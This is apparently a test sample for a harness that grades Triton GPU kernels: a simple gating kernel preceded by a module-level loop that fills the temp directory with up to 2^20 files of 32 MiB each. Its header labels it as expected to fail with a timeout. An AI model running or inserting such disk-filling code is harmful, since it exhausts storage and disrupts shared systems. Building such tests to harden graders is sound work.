# triton: writes until it is stopped
# verdict: bad plan|compile timeout

import os
import tempfile

import triton
import triton.language as tl

for number in range(1 << 20):
    with open(os.path.join(tempfile.gettempdir(), str(number)), "wb") as f:
        f.write(b"x" * (32 << 20))


@triton.jit
def gate(x, y, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)  # (BLOCK)
    v = tl.load(x + i, mask=i < n)
    tl.store(y + i, v * tl.sigmoid(v), mask=i < n)


def plan(p):
    (x,), (y,) = p.inputs, p.outputs
    n = x.numel()
    gate[(triton.cdiv(n, 1024),)](x, y, n, BLOCK=1024)
